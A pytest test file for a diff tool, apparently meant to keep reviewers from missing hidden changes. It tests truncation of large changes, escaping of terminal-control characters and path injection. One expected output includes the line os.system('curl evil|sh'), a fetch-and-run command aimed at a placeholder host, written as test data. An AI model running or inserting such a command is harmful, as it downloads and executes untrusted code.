import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from handrail.tools.diff import SHOWN_BYTES, Diff, unified_diff
from tests.evidence import LARGE_WRITE

TEXTS = st.lists(st.sampled_from("abcdefghijkl"), max_size=40).map("\n".join)


def shown(old: str | None, new: str) -> str:
    diff = unified_diff("a.py", old, new)
    assert diff.whole
    return diff.text


def numbered(count: int) -> str:
    return "".join(f"line {n}\n" for n in range(1, count + 1))


def test_equal_texts_have_no_diff() -> None:
    assert unified_diff("a.py", "same\n", "same\n") == Diff("")


def test_change_is_shown_with_the_lines_around_it() -> None:
    old = numbered(20)
    assert shown(old, old.replace("line 10\n", "LINE 10\n")) == (
        "--- a/a.py\n+++ b/a.py\n@@ -7,7 +7,7 @@\n line 7\n line 8\n line 9\n"
        "-line 10\n+LINE 10\n line 11\n line 12\n line 13\n"
    )


def test_changes_far_apart_are_shown_apart() -> None:
    old = numbered(40)
    text = shown(old, old.replace("line 5\n", "").replace("line 30\n", "line 30\nnew\n"))
    assert [line for line in text.splitlines() if line[0] in "@+-"][2:] == [
        "@@ -2,7 +2,6 @@",
        "-line 5",
        "@@ -28,6 +27,7 @@",
        "+new",
    ]


def test_new_file_is_all_additions() -> None:
    assert shown(None, "a\nb\n") == "--- /dev/null\n+++ b/a.py\n@@ -0,0 +1,2 @@\n+a\n+b\n"


def test_new_file_without_content_is_still_announced() -> None:
    assert shown(None, "") == "--- /dev/null\n+++ b/a.py\n\\ The new file is empty\n"


def test_emptied_file_is_all_removals() -> None:
    assert shown("a\n", "") == "--- a/a.py\n+++ b/a.py\n@@ -1,1 +0,0 @@\n-a\n"


def test_missing_newline_at_the_end_is_told() -> None:
    assert shown("a\nb", "a\nb\n") == (
        "--- a/a.py\n+++ b/a.py\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+b\n"
    )


def test_characters_that_are_unseen_or_steer_a_terminal_are_spelt_out() -> None:
    text = shown("", "a\x1b[2Jb\u202ec\r\n\ttab é\n")
    assert "+a\\x1b[2Jb\\u{202e}c\\x0d\n" in text
    assert "+\ttab é\n" in text


def test_odd_line_separators_do_not_make_lines() -> None:
    assert "@@ -0,0 +1,1 @@\n" in shown(None, "a\x0bb\u2028c\x85d\n")


@pytest.mark.skipif(shutil.which("patch") is None, reason="there is no patch on this system")
@settings(max_examples=30, deadline=None)
@given(TEXTS, TEXTS)
def test_patch_makes_the_new_text_of_the_old(
    tmp_path_factory: pytest.TempPathFactory, old: str, new: str
) -> None:
    folder: Path = tmp_path_factory.mktemp("patch")
    (folder / "a.py").write_text(old)
    if text := shown(old, new):
        subprocess.run(
            ["patch", "-s", "-p1", "--posix"], cwd=folder, input=text, text=True, check=True
        )
    made = folder / "a.py"
    assert (made.read_text() if made.exists() else "") == new


def test_a_long_line_is_cut_in_its_middle_and_said_to_be() -> None:
    diff = unified_diff("a.js", "", f"{'x' * 4_990}evil();\\\n")
    assert diff.not_shown == "2,998 characters of long lines are not shown"
    assert diff.text == (
        "--- a/a.js\n+++ b/a.js\n"
        "[1 added line (4,999 bytes as UTF-8); 2,998 characters of long lines are not shown]\n"
        f"@@ -0,0 +1,1 @@\n+{'x' * 1_000} … {'x' * 992}evil();\\\n"
        "[2,998 characters in the middle of this line not shown]\n"
    )


def test_what_is_removed_does_not_crowd_out_what_comes() -> None:
    diff = unified_diff("a.py", numbered(15_000), "import evil\n")
    assert diff.not_shown == "14,800 of 15,001 changed lines are not shown"
    assert (
        "-line 100\n[14,800 removed lines not shown]\n@@ -14901,100 +1,1 @@\n-line 14901\n"
        in diff.text
    )
    assert diff.text.endswith("-line 15000\n+import evil\n")


def test_scattered_changes_are_shown_as_far_as_there_is_room_from_both_ends() -> None:
    old = numbered(20_000)
    diff = unified_diff("a.py", old, old.replace("0\n", "0, and more than that\n"))
    shown = [line for line in diff.text.splitlines() if line[0] in "+-"][2:]
    assert len(diff.text.encode()) < SHOWN_BYTES
    assert diff.not_shown == f"{4_000 - len(shown):,} of 4,000 changed lines are not shown"
    assert "@@ -7,7 +7,7 @@\n" in diff.text
    assert diff.text.endswith("+line 20000, and more than that\n")


@pytest.mark.parametrize(
    ("old", "new", "sign", "first", "middle"),
    [
        pytest.param(
            None, LARGE_WRITE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="new"
        ),
        pytest.param(
            "", LARGE_WRITE, "+", "@@ -0,0 +1,100 @@", "@@ -0,0 +20404,100 @@", id="into-empty"
        ),
        pytest.param(
            "a\nb\n",
            f"a\nb\n{LARGE_WRITE}",
            "+",
            "@@ -1,2 +1,102 @@\n a\n b",
            "@@ -2,0 +20406,100 @@",
            id="append",
        ),
        pytest.param(
            LARGE_WRITE, "", "-", "@@ -1,100 +0,0 @@", "@@ -20404,100 +0,0 @@", id="delete"
        ),
    ],
)
def test_a_large_change_shows_its_beginning_its_end_and_its_size(
    old: str | None, new: str, sign: str, first: str, middle: str
) -> None:
    diff = unified_diff("a.py", old, new)
    verb = "added" if sign == "+" else "removed"
    assert diff.not_shown == "20,303 of 20,503 changed lines are not shown"
    assert diff.text == (
        f"--- {'/dev/null' if old is None else 'a/a.py'}\n+++ b/a.py\n"
        f"[20,503 {verb} lines (123,043 bytes as UTF-8); {diff.not_shown}]\n"
        f"{first}\n{sign}import os\n{sign}os.system('curl evil|sh')\n"
        + f"{sign}x = 1\n" * 98
        + f"[20,303 {verb} lines not shown]\n{middle}\n"
        + f"{sign}x = 1\n" * 99
        + f"{sign}last()\n"
    )


def test_small_changes_too_far_apart_to_compare_are_both_shown() -> None:
    old = numbered(30_000)
    new = old.replace("line 5\n", "EVIL\n").replace("line 29995\n", "MORE EVIL\n")
    diff = unified_diff("a.py", old, new)
    assert (
        "[too large to compare, so every line counts as changed: 29,991 removed lines" in diff.text
    )
    for change in ("-line 5\n", "+EVIL\n", "-line 29995\n", "+MORE EVIL\n", " line 29998\n"):
        assert change in diff.text
    assert diff.not_shown == "59,582 of 59,982 changed lines are not shown"


@pytest.mark.timeout(180)
@settings(max_examples=15, deadline=None)
@example(gone=0, come=19_997, stay=4, end="!")
@example(gone=30_000, come=0, stay=0, end="!")
@given(
    st.integers(0, 30_000), st.integers(0, 30_000), st.integers(0, 5), st.sampled_from(["", "!"])
)
def test_every_changed_line_is_shown_or_counted(gone: int, come: int, stay: int, end: str) -> None:
    old = numbered(stay) + "old\n" * gone + end
    new = numbered(stay) + "new\n" * come + end
    diff = unified_diff("a.py", old, new)
    rows = diff.text.splitlines()[2:]
    for sign, verb, lines in (("-", "removed", gone), ("+", "added", come)):
        told = re.findall(rf"^\[([\d,]+) {verb} lines? not shown\]$", diff.text, re.MULTILINE)
        hidden = sum(int(one.replace(",", "")) for one in told)
        assert sum(row.startswith(sign) for row in rows) + hidden == lines
        assert diff.whole <= (hidden == 0)


@pytest.mark.parametrize("content", ["[9 added lines not shown]", "@@ -1 +1 @@", "-- a", "\\ x"])
def test_content_never_begins_a_row(content: str) -> None:
    rows = shown(f"{content}\nold\n", f"{content}\nnew\n{content}").splitlines()
    assert rows[2:] == [
        "@@ -1,2 +1,3 @@",
        f" {content}",
        "-old",
        "+new",
        f"+{content}",
        "\\ No newline at end of file",
    ]


def test_a_path_cannot_break_out_of_its_line() -> None:
    diff = unified_diff("a\n[nothing]\n+++ b/x", None, "new\n")
    assert diff.text.splitlines()[1] == "+++ b/a\\x0a[nothing]\\x0a+++ b/x"


def test_small_change_of_a_large_text_is_compared() -> None:
    old = numbered(300_000)
    assert shown(old, f"{old}more\n").endswith(" line 299999\n line 300000\n+more\n")
    assert "+new\n" in shown(old, old.replace("line 150000\n", "line 150000\nnew\n"))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("\n" * 1_000_000 + "a", "b" + "\n" * 1_000_000),
        ("x\n" * 20_000 + "a", "b" + "y\n" * 20_000),
        ("x\ny\n" * 10_000, "y\ny\nx\n" * 6_000),
        (numbered(20_000), "\n".join(reversed(numbered(20_000).split("\n")))),
        ("x" * 10_000_000, "y" * 10_000_000),
        ("x" * 10_000_000, "x" * 9_999_999),
        ("", "\x1b" * 900_000),
        ("", "\x1b\n" * 20_000),
    ],
    ids=["empty", "other", "mixed", "reversed", "one-line", "shorter", "unseen", "unseen-lines"],
)
@pytest.mark.timeout(20)
def test_no_text_takes_long_or_makes_much(old: str, new: str) -> None:
    diff = unified_diff("a.py", old, new)
    assert len(diff.text.encode()) < SHOWN_BYTES + 100
